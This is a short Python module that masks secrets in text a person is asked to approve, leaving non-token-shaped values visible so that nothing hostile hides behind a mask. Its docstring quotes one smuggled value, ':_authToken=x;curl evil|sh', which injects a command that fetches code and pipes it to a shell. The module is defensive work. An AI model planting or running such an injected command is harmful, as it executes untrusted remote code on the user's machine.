"""Secrets masked in text that a person is asked to accept: nothing else may disappear behind a mask."""

from __future__ import annotations

import re
from collections.abc import Mapping
from typing import Any

from burnish.core.secrets import Secrets

# what tokens and keys are made of: no space, quote, `;`, `$` or control character, with which a command could begin
_TOKEN = re.compile(r"(?![/.~])[A-Za-z0-9_+/=.:~-]+")
_KEY_LINES = re.compile(r"-----BEGIN [A-Z0-9 ]+-----[A-Za-z0-9+/=\s]*(?:-----END [A-Z0-9 ]+-----)?")
_OF_ENVIRONMENT = "value of "


def mask(secrets: Secrets, text: str) -> str:
    """The text with each secret replaced by its kind and length. What only looks like one is shown whole.

    The author of a repository can write `:_authToken=x;curl evil|sh`, but not a value of the reader's environment.
    """
    for start, end, kind in reversed(secrets.spans(text)):
        value = text[start:end]
        if kind.startswith(_OF_ENVIRONMENT) or _is_token(value):
            text = f"{text[:start]}[secret: {kind}, {end - start} characters not shown]{text[end:]}"
    return text


def mask_all(secrets: Secrets, value: Any) -> Any:
    """Every text inside of lists and mappings."""
    if isinstance(value, str):
        return mask(secrets, value)
    if isinstance(value, Mapping):
        return {mask_all(secrets, key): mask_all(secrets, one) for key, one in value.items()}
    if isinstance(value, list | tuple):
        return [mask_all(secrets, one) for one in value]
    return value


def _is_token(value: str) -> bool:
    if "/../" in value or "//" in value:
        return False
    return bool(_TOKEN.fullmatch(value) or _KEY_LINES.fullmatch(value))
